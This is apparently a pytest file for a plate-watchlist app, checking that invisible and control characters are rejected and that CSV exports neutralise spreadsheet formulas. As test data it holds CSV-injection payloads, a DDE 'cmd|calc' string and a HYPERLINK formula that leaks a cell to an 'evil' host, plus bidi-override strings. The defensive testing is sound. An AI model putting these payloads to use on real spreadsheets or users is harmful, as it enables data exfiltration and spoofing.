"""People's text: control and invisible characters refused by name, CSV cells that a
spreadsheet never runs as formulas, and exports that load back as they were."""

from __future__ import annotations

import csv
import io
import re

import pytest
from lanescreen.domain.errors import InvalidRequestError
from lanescreen.domain.importing import format_export, parse_import
from lanescreen.domain.text import csv_cell, from_csv_cell, text_problem
from lanescreen.domain.watchlists import EntryError, EntryFields, PlateEntry, validate_entry


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("AB\u202e12", "contains the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE)"),
        ("stolen\u200b", "contains the invisible character U+200B (ZERO WIDTH SPACE)"),
        ("a\u2066b", "contains the invisible character U+2066 (LEFT-TO-RIGHT ISOLATE)"),
        ("\ufeffreason", "contains the invisible character U+FEFF (ZERO WIDTH NO-BREAK SPACE)"),
        ("bell\x07", "contains the control character U+0007"),
        ("c1\x85c1", "contains the control character U+0085"),
        ("bad\udcff", "is not valid UTF-8 text"),
    ],
)
def test_hidden_characters_are_named(text: str, problem: str) -> None:
    assert text_problem(text) == problem
    with pytest.raises(EntryError, match=re.escape(problem)):
        validate_entry({"plate": "AB123CD", "reason": text})


def test_visible_text_and_line_breaks_where_allowed() -> None:
    assert text_problem("Vol signalé 12/3, Zürich — 京A12345") is None
    assert text_problem("two\nlines\tand a tab") is None
    assert text_problem("two\nlines", multiline=False) == "contains the control character U+000A"


def test_a_plate_with_a_bidi_override_is_refused_not_stored_reversed() -> None:
    with pytest.raises(EntryError, match=r"plate: .*U\+202E"):
        validate_entry({"plate": "\u202eDC21"})


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1)", "\tx", "\rx"])  # fmt: skip
def test_formula_cells_are_neutralised_and_read_back(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert from_csv_cell(csv_cell(value)) == value
    assert csv_cell("AB123CD") == "AB123CD" and from_csv_cell("'quoted") == "'quoted"


def test_a_watchlist_export_runs_no_formula_and_loads_back_as_it_was() -> None:
    from datetime import UTC, datetime

    fields = EntryFields("AB123CD", reason='=HYPERLINK("http://evil/?"&A1)', owner="+cmd|calc")
    now = datetime(2026, 12, 1, tzinfo=UTC)
    exported = format_export([PlateEntry("e-1", "wl-1", fields, "officer", now, now)]).decode()
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["reason"].startswith("'=") and row["owner"] == "'+cmd|calc"
    [loaded] = parse_import(exported.encode(), "csv")
    assert loaded.fields is not None
    assert (loaded.fields.reason, loaded.fields.owner) == (fields.reason, fields.owner)


def test_an_import_names_the_line_of_an_invisible_character() -> None:
    data = "plate,reason\nAB123CD,fine\nKL456MN,bad\u202ereason\n".encode()
    rows = parse_import(data, "csv")
    assert rows[0].fields is not None and rows[1].fields is None
    assert rows[1].line == 3 and "U+202E" in (rows[1].error or "")


def test_an_empty_import_is_still_refused() -> None:
    with pytest.raises(InvalidRequestError):
        parse_import(b"", "csv")
